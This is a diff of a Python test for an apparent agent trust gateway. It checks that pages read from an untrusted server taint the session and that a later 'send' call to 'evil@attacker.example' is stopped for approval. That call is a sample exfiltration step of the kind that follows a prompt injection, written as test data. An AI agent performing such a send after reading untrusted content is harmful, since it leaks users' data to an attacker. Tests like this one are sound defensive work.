@@ -94,13 +94,13 @@ def test_another_servers_trust_is_not_its_own():
 def test_over_the_wire_its_pages_taint_and_its_tools_are_asked_about(trusting, era):
     office = trusting.servers["other"]
     office.write(
-        tools=[tool("read", "path", annotations=HARMLESS, trusted=True), tool("send", "path", annotations=HARMLESS)],
-        results={"read": {**text(PAGE), "_meta": RESULT["_meta"]}},
+        tools=[tool("read_page", "url", annotations=HARMLESS, trusted=True), tool("send", "path", annotations=HARMLESS)],
+        results={"read_page": {**text(PAGE), "_meta": RESULT["_meta"]}},
     )
     trusting.gateway.review("other")
     agent = trusting.agent(era)
     agent.list_tools("other")
-    agent.call("other", "read", path="/a")
+    agent.call("other", "read_page", url="https://a.example")
     assert agent.asked_about()
     assert trusting.trust_of("send_email")["taken"]["open_world"] is True
     assert reason(agent.call("other", "send", path="evil@attacker.example")) == ASKED
